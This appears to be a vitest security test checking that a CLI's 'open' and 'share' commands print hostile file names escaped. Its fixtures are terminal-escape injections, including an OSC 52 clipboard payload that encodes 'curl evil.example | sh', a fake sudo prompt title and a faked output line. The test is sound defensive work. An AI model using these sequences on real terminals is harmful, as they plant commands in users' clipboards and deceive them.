/**
 * A hostile link must not drive the terminal of the person running `workbench open` (or `share` on a
 * folder someone else made): a path in a "listed twice" error carried OSC 52 (a clipboard write), a window
 * title, a carriage return faking a "wrote 3 files" line and concealed text. The real bin runs in a child
 * process; what it prints holds no control character but its own newlines, the escapes show as text, and
 * nothing is written.
 */
import { mkdir, mkdtemp, readdir, rm, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { deflateSync, strToU8 } from "fflate";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { toBase64Url } from "../../src/embed/share/base64url.js";
import { runWorkbench } from "../support/workbench-bin.js";

const OSC52 = "\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007";
const TITLE = "\u001b]0;sudo password:\u0007";
const FAKE_LINE = "\r\u001b[2Kwrote 3 files to /home/you/project\n";
const CONCEALED = "\u001b[8mhidden\u001b[0m";
const C1_CSI = "\u009b2J";
const HOSTILE = `x${OSC52}${TITLE}${FAKE_LINE}${CONCEALED}${C1_CSI}\u202e.txt`;

/** Anything a terminal would act on, or that hides text; our own newlines are allowed. */
const UNSAFE = /[\u0000-\u0009\u000B-\u001F\u007F-\u009F\u200B-\u200F\u202A-\u202E\u2066-\u2069]/;

let base: string;
beforeAll(async () => {
  base = await mkdtemp(join(tmpdir(), "share-terminal-"));
});
afterAll(() => rm(base, { recursive: true, force: true }));

function packedLink(manifest: unknown, body: string): string {
  const head = strToU8(JSON.stringify(manifest));
  const content = strToU8(body);
  const out = new Uint8Array(4 + head.length + content.length);
  new DataView(out.buffer).setUint32(0, head.length);
  out.set(head, 4);
  out.set(content, 4 + head.length);
  return `http://127.0.0.1:5173/#share=1.${toBase64Url(deflateSync(out, { level: 9 }))}`;
}

describe("workbench open quotes what a link says", () => {
  it.each([
    [
      "a path listed twice",
      {
        f: [
          [HOSTILE, 1],
          [HOSTILE, 1],
        ],
      },
    ],
    ["a manifest key the schema does not know", { f: [["a.txt", 2]], [HOSTILE]: 1 }],
    ["a bad path", { f: [[`${HOSTILE}/../x`, 2]] }],
  ])("%s", async (_, manifest) => {
    const target = join(base, `t-${Math.random().toString(36).slice(2)}`);
    const opened = await runWorkbench(["open", packedLink(manifest, "ab"), "--dir", target]);
    expect(opened.code).toBe(1);
    expect(opened.stdout + opened.stderr).not.toMatch(UNSAFE);
    expect(opened.stderr).toMatch(/\\x1b/);
    expect(opened.stderr).not.toMatch(/^wrote/m);
    expect(await readdir(base)).not.toContain(target.slice(base.length + 1));
  });

  it("a .workbench.json that is not JSON: the parser's message quotes the input, printable", async () => {
    const file = join(base, "bad.workbench.json");
    await writeFile(file, `{"format": ${HOSTILE}`);
    const opened = await runWorkbench(["open", file, "--dir", join(base, "never")]);
    expect(opened.code).toBe(1);
    expect(opened.stderr).not.toMatch(UNSAFE);
  });
});

describe("workbench share quotes the names of the folder it reads", () => {
  it("a link and a file with escapes in their names are named printable in what it says", async () => {
    const source = join(base, "made-by-someone");
    await mkdir(source);
    await writeFile(join(source, "ok.txt"), "ok\n");
    await symlink("/etc/hostname", join(source, `link${OSC52}\r\u001b[2Kwrote 3 files${CONCEALED}`));
    const shared = await runWorkbench(["share", "--dir", source]);
    expect(shared.stdout + shared.stderr).not.toMatch(UNSAFE);
    expect(shared.stderr).toMatch(/left out link\\x1b\]52/);
    await writeFile(join(source, `f${TITLE}.txt`), "x");
    const refused = await runWorkbench(["share", "--dir", source]);
    expect(refused.code).toBe(1);
    expect(refused.stdout + refused.stderr).not.toMatch(UNSAFE);
  });
});
